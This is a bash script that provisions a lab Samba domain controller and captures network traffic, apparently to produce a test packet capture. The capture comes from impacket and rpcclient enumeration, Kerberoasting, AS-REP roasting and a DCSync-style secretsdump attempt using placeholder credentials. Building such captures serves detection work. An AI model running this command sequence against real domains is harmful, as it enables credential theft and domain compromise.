#!/bin/bash
# domain.pcap: a domain controller and who asks it: interfaces mapped, accounts
# and groups listed, services and the registry asked for and refused, tickets for
# guessing; last, one who is no controller begins to replicate, and fails.
. "$(dirname "$0")/common.sh"
need samba samba-tool smbclient rpcclient
venv_python impacket==0.13.1

pair srv 10.20.30.10/24 cli 10.20.30.50/24
export TZ=UTC
on_host srv dc-1 samba-tool domain provision --realm=PLANT.EXAMPLE --domain=PLANT --server-role=dc --dns-backend=SAMBA_INTERNAL \
    --adminpass='Line-One-2026' --host-name=dc-1 --host-ip=10.20.30.10 --targetdir="$T/dc" \
    --option='interfaces=eth0' --option='bind interfaces only=yes' --option='vfs objects=dfs_samba4 acl_xattr xattr_tdb' >"$T/provision.log" 2>&1 || { cat "$T/provision.log" >&2; exit 1; }
C=$T/dc/etc/smb.conf
sed -i '/\[global\]/a\    interfaces = eth0\n    bind interfaces only = yes\n    server services = s3fs, rpc, wrepl, ldap, cldap, kdc, drepl, winbindd, ntp_signd, kcc, dns\n    rpc server dynamic port range = 49152-49170\n    prefork children = 1' "$C"
sam() { on_host srv dc-1 samba-tool "$@" -s "$C" >>"$T/provision.log" 2>&1; }
sam user create anna Line-Two-2026 --given-name=Anna --surname=Weber
sam user create svc-historian Line-Three-2026
sam spn add historian/hist.plant.example svc-historian
bg_host srv dc-1 samba -i -M single -s "$C" --no-process-group
wait_tcp srv 445
wait_tcp srv 135
wait_tcp srv 389
wait_tcp srv 88
sleep 4
B=${PY%/*}
record cli eth0 "$T/all.pcap" 'not arp'
cd "$T"
ask() { on_host cli pc-7 timeout 30 "$@" >>"$T/cli.log" 2>&1 || true; sleep 0.2; }
ask "$PY" "$B/rpcmap.py" 'ncacn_ip_tcp:10.20.30.10[135]' -brute-opnums -opnum-max 1 -uuid e1af8308-5d1f-11c9-91a4-08002b14a0fa
ask "$PY" "$B/rpcdump.py" 10.20.30.10
ask rpcclient -U 'PLANT\anna%Line-Two-2026' 10.20.30.10 -c 'srvinfo; lookupnames Administrator; enumdomusers; enumdomgroups; netshareenum; getdompwinfo'
ask rpcclient -U 'PLANT\anna%wrong' 10.20.30.10 -c srvinfo
ask "$PY" "$B/lookupsid.py" 'PLANT/anna:Line-Two-2026@10.20.30.10' 505
ask "$PY" "$B/services.py" 'PLANT/Administrator:Line-One-2026@10.20.30.10' list
ask "$PY" "$B/reg.py" 'PLANT/Administrator:Line-One-2026@10.20.30.10' query -keyName 'HKLM\SOFTWARE'
ask "$PY" "$B/GetUserSPNs.py" 'plant.example/anna:Line-Two-2026' -dc-ip 10.20.30.10 -request
ask "$PY" "$B/GetNPUsers.py" 'plant.example/anna' -dc-ip 10.20.30.10 -no-pass
ask "$PY" "$B/secretsdump.py" 'PLANT/Administrator:Line-One-2026@10.20.30.10' -just-dc-user anna
record_stop
[ -n "${DEBUG:-}" ] && tail -n 60 "$T"/cli.log "$T/provision.log" || true
cp "$T/all.pcap" "$OUT/domain.pcap"
